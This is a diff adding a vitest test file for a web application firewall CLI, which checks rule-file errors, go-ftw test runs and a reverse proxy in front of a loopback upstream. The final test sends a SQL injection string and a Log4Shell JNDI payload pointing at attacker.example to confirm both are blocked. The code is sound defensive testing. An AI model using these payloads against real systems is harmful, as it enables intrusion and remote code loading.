@@ -1,0 +1,84 @@
+/**
+ * `bulwark waf` through the real CLI: the go-ftw runner on CRS tests (summary line, failures
+ * listed, exit codes), malformed rule files as one line with exit 2, and the reverse proxy in
+ * front of a live upstream on loopback.
+ */
+import { spawn } from 'node:child_process';
+import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { createServer, request } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { CLI, runCli } from './helpers/run-cli.js';
+
+const CRS = resolve(import.meta.dirname, '../../shared/data/crs');
+
+describe('bulwark waf: rule errors', () => {
+  it('a malformed rule file is one line naming file and line, exit 2', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'waf-rules-'));
+    writeFileSync(join(dir, 'bad.conf'), 'SecRuleEngine On\nSecRule ARGS "@rx (unclosed" "id:1,phase:2,deny"\n');
+    const r = runCli(['waf', 'test', dir, '--rules', join(dir, 'bad.conf')]);
+    expect(r.status).toBe(2);
+    expect(r.stderr.trim().split('\n')).toHaveLength(1);
+    expect(r.stderr).toMatch(/bad\.conf:2/);
+    writeFileSync(join(dir, 'bad.conf'), 'SecRuleEngine On\nSecNoSuchThing x\n');
+    const unknown = runCli(['waf', 'test', dir, '--rules', join(dir, 'bad.conf')]);
+    expect(unknown.status).toBe(2);
+    expect(unknown.stderr).toMatch(/bad\.conf:2: unknown directive SecNoSuchThing/);
+  });
+
+  it('a failing go-ftw test is listed and the run exits 1', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'waf-ftw-'));
+    writeFileSync(join(dir, 'rules.conf'), 'SecRuleEngine On\nSecRule ARGS "@contains evil" "id:10,phase:1,deny,log"\n');
+    writeFileSync(
+      join(dir, 't.yaml'),
+      ['rule_id: 10', 'tests:', '  - test_id: 1', '    stages:', '      - input: {uri: "/?a=evil", headers: {Host: localhost}}', '        output: {log: {expect_ids: [10]}, status: 403}', '  - test_id: 2', '    stages:', '      - input: {uri: "/?a=fine", headers: {Host: localhost}}', '        output: {log: {expect_ids: [10]}}', ''].join('\n'),
+    );
+    const r = runCli(['waf', 'test', dir, '--rules', join(dir, 'rules.conf'), '--no-regression-profile', '--no-virtual-patches']);
+    expect(r.status).toBe(1);
+    expect(r.stdout).toContain('FAIL 10-2: expected ids not logged: 10');
+    expect(r.stdout.trim().split('\n').pop()).toBe('1 passed, 1 failed');
+  });
+});
+
+describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
+  it('waf test passes the CRS PHP-injection suite', () => {
+    const r = runCli(['waf', 'test', join(CRS, 'tests/regression/tests/REQUEST-933-APPLICATION-ATTACK-PHP'), '--rules', CRS], { timeoutMs: 120_000 });
+    expect(r.stdout.trim().split('\n').pop()).toMatch(/^\d{3,} passed, 0 failed$/);
+    expect(r.status).toBe(0);
+  }, 120_000);
+
+  it('serves as a reverse proxy: benign requests pass, SQL injection and Log4Shell get 403', async () => {
+    const upstream = createServer((req, res) => res.end(`upstream saw ${req.url ?? ''}`));
+    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
+    const upstreamPort = (upstream.address() as AddressInfo).port;
+    const probe = createServer();
+    await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
+    const port = (probe.address() as AddressInfo).port;
+    await new Promise<void>((r) => probe.close(() => r()));
+    const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS], { stdio: ['ignore', 'ignore', 'pipe'] });
+    try {
+      await new Promise<void>((resolveReady, reject) => {
+        child.stderr.on('data', (d: Buffer) => (d.toString().includes('listening on') ? resolveReady() : undefined));
+        child.on('exit', (code) => reject(new Error(`waf exited ${String(code)}`)));
+      });
+      const get = (path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> =>
+        new Promise((ok, fail) => {
+          request({ host: '127.0.0.1', port, path, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html', ...headers } }, (res) => {
+            let body = '';
+            res.on('data', (c: Buffer) => (body += c.toString()));
+            res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
+          })
+            .on('error', fail)
+            .end();
+        });
+      expect(await get('/products?id=42&sort=price')).toEqual({ status: 200, body: 'upstream saw /products?id=42&sort=price' });
+      expect((await get("/products?id=1'%20or%20'1'='1")).status).toBe(403);
+      expect((await get('/', { 'x-api-version': '${jndi:ldap://attacker.example/a}' })).status).toBe(403);
+    } finally {
+      child.kill('SIGTERM');
+      upstream.close();
+    }
+  }, 60_000);
+});
